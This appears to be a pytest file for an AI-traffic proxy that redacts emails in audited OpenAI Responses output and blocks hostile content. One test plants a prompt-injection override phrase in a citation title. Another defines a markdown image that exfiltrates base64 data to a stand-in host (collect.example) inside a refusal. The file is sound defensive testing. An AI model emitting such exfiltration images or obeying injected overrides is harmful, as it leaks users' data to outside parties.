"""What a Responses answer holds besides its text and calls is audited too, whole and
streamed, through the real SDK: a provider-run tool's call and result, a refusal and
citations, each under `items` of the model_response record, redacted; in a stream, a
refusal and a citation are judged before the agent reads them. (Chat answers:
test_chat_answers.py; Messages: test_anthropic_blocks.py's benign answer.)
"""

from __future__ import annotations

from typing import Any

import openai
import pytest
from conftest import audit_rows
from mock_openai import MockOpenAI
from test_governance import EMAIL, PLACEHOLDER
from test_openai_sdk import client
from test_responses_items import OVERRIDE, answer_items

from lictor.proxy.server import BackgroundServer

EXFIL = "![chart](https://collect.example/p.png?data=c2VjcmV0LXN0dWZm)"


def responses_answer(text: str) -> list[dict[str, Any]]:
    """A provider-run MCP call, then a message with a cited text part and a refusal part."""
    return [
        {"type": "mcp_call", "id": "mcp_9", "server_label": "crm", "name": "lookup",
         "arguments": '{"q": "owner"}', "output": f"Owner: {text}", "status": "completed"},
        {"type": "message", "id": "msg_9", "role": "assistant", "status": "completed",
         "content": [
             {"type": "output_text", "text": f"It is {text}.", "annotations": [
                 {"type": "url_citation", "url": "https://crm.example/o",
                  "title": f"Owner page of {text}", "start_index": 0, "end_index": 5}]},
             {"type": "refusal", "refusal": f"I will not mail {text}."}]},
    ]


def placeholder_via_responses(lictor: BackgroundServer, upstream: MockOpenAI) -> str:
    client(lictor).responses.create(model="mock-gpt", input=f"Mail {EMAIL}")
    found = PLACEHOLDER.search(upstream.last_text())
    assert found is not None
    return found.group(0)


@pytest.mark.parametrize("stream", [False, True])
def test_responses_answer_items_are_restored_and_audited(
        lictor: BackgroundServer, upstream: MockOpenAI, stream: bool) -> None:
    upstream.responses_output = responses_answer(placeholder_via_responses(lictor, upstream))
    output = answer_items(client(lictor), stream, input=f"Mail {EMAIL}")
    assert output[0].output == f"Owner: {EMAIL}"
    text, refusal = output[1].content
    assert text.text == f"It is {EMAIL}." and refusal.refusal == f"I will not mail {EMAIL}."
    assert text.annotations[0].title == f"Owner page of {EMAIL}"
    record = audit_rows(lictor)[-1]
    items = {i["type"]: i["texts"] for i in record["content"][0]["items"]}
    assert list(items) == ["mcp_call", "annotations", "refusal"]
    assert EMAIL not in str(items)
    assert items["mcp_call"][-1].startswith("Owner: <EMAIL_")
    assert items["refusal"] == [items["refusal"][0]] and PLACEHOLDER.search(items["refusal"][0])


@pytest.mark.parametrize("stream", [False, True])
def test_injection_in_a_responses_citation_blocks_the_answer(
        lictor: BackgroundServer, upstream: MockOpenAI, stream: bool) -> None:
    output = responses_answer("Ann")
    output[1]["content"][0]["annotations"][0]["title"] = OVERRIDE
    upstream.responses_output = output
    with pytest.raises(openai.APIError) as info:
        answer_items(client(lictor), stream, input="Who owns it?")
    assert "injection.instruction-override" in info.value.message


@pytest.mark.parametrize("stream", [False, True])
def test_exfiltration_in_a_responses_refusal_blocks_the_answer(
        lictor: BackgroundServer, upstream: MockOpenAI, stream: bool) -> None:
    output = responses_answer("Ann")
    output[1]["content"][1]["refusal"] = f"See {EXFIL}"
    upstream.responses_output = output
    with pytest.raises(openai.APIError) as info:
        answer_items(client(lictor), stream, input="Who owns it?")
    assert "exfil.markdown-image-with-data" in info.value.message
